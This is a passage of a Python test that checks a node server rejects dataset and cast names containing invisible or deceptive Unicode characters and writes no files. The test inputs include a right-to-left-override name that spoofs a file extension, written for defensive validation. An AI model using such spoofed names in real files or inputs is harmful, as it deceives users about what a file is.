    for name in ("hero\u200b", "hero\u202egnp.txt", "he\u0301ro", "hero\ufeff", "hero\ue000"):
        g = {"1": _empty(8, 8, 1), "2": {"class_type": "ContinuitySaveDatasetVersion",
                                         "inputs": {"images": ["1", 0], "name": name, "note": ""}}}
        refused(server, g, "Save Dataset Version", "name")
        refused(server, {"1": {"class_type": "ContinuityLoadCast", "inputs": {"names": f"ana, {name}"}},
                         "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 1]}}}, "Load Cast", "names")
    assert not list((server.base / "output" / "continuity" / "datasets").glob("h*"))
    still_serves(server)
